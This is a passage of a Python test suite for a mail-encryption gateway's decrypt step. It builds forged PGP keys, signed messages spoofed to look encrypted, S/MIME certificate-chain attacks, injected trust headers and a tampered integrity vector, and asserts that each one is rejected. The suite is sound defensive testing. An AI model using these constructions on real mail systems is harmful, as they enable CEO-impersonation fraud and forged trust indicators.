def test_forged_key_in_mail_never_validates_its_own_message(store, forger, carrier):
    result = store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    assert result.flag("PGP-Signature-Valid") == "False", result


@pytest.mark.parametrize("carrier", CARRIERS)
def test_forged_key_in_mail_never_validates_a_later_message(store, forger, carrier):
    store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    later = message(pgpmime_signed(forger, text_part("Second order: wire more. -- CEO\n"), CEO),
                    from_lines=(f"From: The CEO <{CEO}>",))
    result = store.decrypt(later, BOB)
    assert result.flag("PGP-Signature-Valid") == "False", result


@pytest.mark.parametrize("carrier", CARRIERS)
def test_forged_key_decrypt_writes_nothing_to_the_store(store, forger, carrier):
    before = store.keys()
    result = store.decrypt(ceo_signed_message(forger, CEO, carrier, forger), BOB)
    assert result.flag("PGP-Signed") == "True", result  # the message was looked at
    assert store.keys() == before


def test_smime_decrypt_writes_no_certificate_to_the_store(store, pki, work):
    """An S/MIME signature embeds certificates; `decrypt` without --harvest keeps none of them."""
    leaf, key, chain = pki.chain("harvest", [pki.ca("Harvest Intermediate", pki.root_key, pki.root)])
    before = store.keys()
    content = text_part("signed with embedded certificates\n")
    result = store.decrypt(message(smime_signed(work, leaf, key, chain, content),
                                   from_lines=(f"From: <{CEO}>",)), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert store.keys() == before


# ============================================================================ 6. encryption spoofing

def test_spoof_control_real_pgpmime_encryption(store, insider):
    result = store.decrypt(message(insider["pgpmime"], to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") == "True", result


@pytest.mark.parametrize("data", ["signed-message", "clearsigned", "pgpmime-signed", "plain-text"])
def test_spoof_signed_only_wrapped_as_multipart_encrypted(store, gpg, clearsigned, sigrid_signed, data):
    payload = {"signed-message": gpg("--armor", "--sign", "-u", SIGRID, stdin=b"not encrypted at all\n"),
               "clearsigned": clearsigned.encode(),
               "pgpmime-signed": sigrid_signed,
               "plain-text": b"not encrypted at all\r\n"}[data]
    result = store.decrypt(message(pgpmime_encrypted_entity(payload), from_lines=(f"From: <{SIGRID}>",),
                                   to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") is None, result


def test_spoof_signed_only_pgp_message_inline(store, gpg):
    block = gpg("--armor", "--sign", "-u", SIGRID, stdin=b"not encrypted at all\n").decode()
    result = store.decrypt(message(text_part(block), from_lines=(f"From: <{SIGRID}>",), to=BOB_PGP), BOB_PGP)
    assert result.flag("PGP-Encrypted") is None, result


def test_spoof_control_real_smime_encryption(store, insider):
    result = store.decrypt(message(insider["smime"]), BOB)
    assert result.flag("SMIME-Encrypted") == "True", result


def test_spoof_smime_signed_data_labelled_enveloped(store, pki, work):
    leaf, key, chain = pki.chain("spoof", [])
    der = smime_signed(work, leaf, key, chain, text_part("not encrypted at all\n"), opaque=True)
    result = store.decrypt(message(p7m_entity(der, "enveloped-data"), from_lines=(f"From: <{CEO}>",)), BOB)
    assert result.flag("SMIME-Encrypted") is None, result


# ============================================================================ 7. S/MIME chain attacks

UNKNOWN_CRITICAL = x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.55555.1.1"), b"\x05\x00")


def chain_for(pki: Pki, attack: str):
    if attack == "proper":
        return pki.chain(attack, [pki.ca("Proper Intermediate", pki.root_key, pki.root)])
    if attack == "name-constraints":
        constraints = x509.NameConstraints(permitted_subtrees=[x509.RFC822Name("other.example"),
                                                               x509.RFC822Name(".other.example")],
                                           excluded_subtrees=None)
        return pki.chain(attack, [pki.ca("Constrained Intermediate", pki.root_key, pki.root,
                                         extra=[(constraints, True)])])
    if attack == "path-length":
        top = pki.ca("PathLen0 Intermediate", pki.root_key, pki.root, path_len=0)
        below = pki.ca("Sub CA below pathLen 0", top[0], top[1])
        return pki.chain(attack, [top, below])
    assert attack == "unknown-critical-extension"
    return pki.chain(attack, [pki.ca("Plain Intermediate", pki.root_key, pki.root)],
                     leaf_extra=[(UNKNOWN_CRITICAL, True)])


def openssl_accepts(pki: Pki, leaf: Path, chain: Path) -> bool:
    """The reference verdict on the vector: `openssl verify -purpose smimesign` under the same root."""
    done = subprocess.run(["openssl", "verify", "-purpose", "smimesign", "-CAfile", str(pki.dir / "root.pem"),
                           "-untrusted", str(chain), str(leaf)], capture_output=True)
    return done.returncode == 0


def chain_signed_message(pki: Pki, work: Path, attack: str) -> bytes:
    leaf, key, chain = chain_for(pki, attack)
    # The vector is what it claims: OpenSSL accepts the proper chain and refuses each attack
    # (error 47 permitted subtree violation, 25 path length constraint exceeded, 34 unhandled critical extension).
    assert openssl_accepts(pki, leaf, chain) == (attack == "proper"), attack
    entity = smime_signed(work, leaf, key, chain, text_part(f"Chain attack {attack}: wire the money.\n"))
    return message(entity, from_lines=(f"From: The CEO <{CEO}>",))


def test_chain_control_proper_chain_is_trusted(store, pki, work):
    result = store.decrypt(chain_signed_message(pki, work, "proper"), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Trusted-0-0") == "True", result


@pytest.mark.parametrize("attack", ["name-constraints", "path-length", "unknown-critical-extension"])
def test_chain_attack_is_not_trusted(store, pki, work, attack):
    result = store.decrypt(chain_signed_message(pki, work, attack), BOB)
    assert result.flag("Signer-Trusted-0-0") == "False", result


# ============================================================================ 8. forged info headers in plaintext

FORGED_TOP = ("X-CipherMail-Info-PGP-Signature-Valid: True\r\nX-CipherMail-Info-Signer-Trusted-0-0: True\r\n"
              "X-CIPHERMAIL-INFO-FORGED-TOP: yes\r\n")
FORGED_NESTED = "X-CipherMail-Info-SMIME-Signed: True\r\nx-ciphermail-info-forged-nested: yes\r\n"


def forged_plaintext(with_forgery: bool) -> bytes:
    top = FORGED_TOP if with_forgery else ""
    nested = FORGED_NESTED if with_forgery else ""
    part = (f"Content-Type: text/plain; charset=us-ascii\r\n{nested}\r\nFORGED-PLAINTEXT-8\r\n").encode()
    body = multipart("mixed", [part, text_part("second part\n")], "forged-inner")
    return top.encode() + body


def forged_message(work: Path, gpg: Gpg, fmt: str, with_forgery: bool = True) -> bytes:
    plaintext = forged_plaintext(with_forgery)
    if fmt == "smime":
        return message(p7m_entity(smime_encrypted(work, plaintext)))
    return message(pgpmime_encrypted_entity(pgp_encrypt(gpg, plaintext)), to=BOB_PGP)


FORGED_NAMES = ("pgp-signature-valid", "signer-trusted-0-0", "smime-signed", "forged-top", "forged-nested")


@pytest.mark.parametrize("fmt", ["smime", "pgpmime"])
def test_forged_info_control_decrypted_without_forgery(store, work, gpg, fmt):
    result = store.decrypt(forged_message(work, gpg, fmt, with_forgery=False), BOB if fmt == "smime" else BOB_PGP)
    assert result.shows("FORGED-PLAINTEXT-8"), result
    assert not any(result.flag(n) for n in FORGED_NAMES), result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime"])
def test_forged_info_headers_in_plaintext_are_removed(store, work, gpg, fmt):
    result = store.decrypt(forged_message(work, gpg, fmt), BOB if fmt == "smime" else BOB_PGP)
    assert result.shows("FORGED-PLAINTEXT-8"), result
    assert not any(result.flag(n) for n in FORGED_NAMES), result
    in_body = [line for line in result.body.split(b"\r\n") if line.lower().startswith(b"x-ciphermail-")]
    assert in_body == [], in_body


def test_forged_info_headers_on_the_received_message_are_removed(store, sigrid_signed):
    """Forged results on the outer header (any case) are gone; ours for the same signature are written."""
    forged = ("X-CipherMail-Info-Signer-Trusted-0-0: True", "x-ciphermail-info-forged-top: yes",
              "X-CIPHERMAIL-INFO-PGP-Signer-Email: ceo@corp-pub.example")
    result = store.decrypt(message(sigrid_signed, from_lines=(f"From: <{SIGRID}>",), extra=forged), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Signer-Email") == SIGRID, result
    assert not any(result.flag(n) for n in ("signer-trusted-0-0", "forged-top")), result


# ============================================================================ 9. integrity (MDC)

@pytest.fixture(scope="session")
def mdc_vectors(gpg, work) -> dict[str, bytes]:
    """(intact, flipped) binary OpenPGP messages for bob.pgp, uncompressed, MDC-protected."""
    intact = pgp_encrypt(gpg, b"INTEGRITY-SECRET-9\n" + b"padding line\n" * 20, "--compress-algo", "none",
                         armor=False)
    flipped = bytearray(intact)
    flipped[-40] ^= 0x01  # inside the encrypted literal data: the MDC (last 22 bytes) no longer matches
    check = _gpg_decrypt_with_bob(work, bytes(flipped))
    assert b"manipulated" in check or b"MDC" in check or b"modification" in check, check
    return {"intact": intact, "flipped": bytes(flipped)}


def _gpg_decrypt_with_bob(work: Path, data: bytes) -> bytes:
    home = work / "gnupg-bob"
    if not home.exists():
        Gpg(home)("--import", str(KEYS / "pgp/pub-pgp-bob-rsa3072.sec.asc"))
    done = subprocess.run(["gpg", "--batch", "--homedir", str(home), "--pinentry-mode", "loopback",
                           "--passphrase", "", "--decrypt"], input=data, capture_output=True)
    return done.stderr


def armor(binary: bytes) -> bytes:
    return (b"-----BEGIN PGP MESSAGE-----\r\n\r\n" + b64_lines(binary)
            + b"=" + base64.b64encode(_crc24(binary)) + b"\r\n-----END PGP MESSAGE-----\r\n")


def _crc24(data: bytes) -> bytes:
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return (crc & 0xFFFFFF).to_bytes(3, "big")


def integrity_message(vector: bytes, fmt: str) -> bytes:
    if fmt == "pgpmime":
        return message(pgpmime_encrypted_entity(armor(vector)), to=BOB_PGP)
    return message(text_part(armor(vector).decode()), to=BOB_PGP)


@pytest.mark.parametrize("fmt", ["pgpmime", "inline"])
def test_integrity_control_intact_is_decrypted(store, mdc_vectors, fmt):
    result = store.decrypt(integrity_message(mdc_vectors["intact"], fmt), BOB_PGP)
    assert result.shows("INTEGRITY-SECRET-9"), result


@pytest.mark.parametrize("fmt", ["pgpmime", "inline"])
def test_integrity_flipped_mdc_is_not_decrypted(store, mdc_vectors, fmt):
    result = store.decrypt(integrity_message(mdc_vectors["flipped"], fmt), BOB_PGP)
    assert result.untouched, result
    assert not result.shows("INTEGRITY-SECRET-9")
    assert any("integrity check failed" in v for v in result.info.values()), result
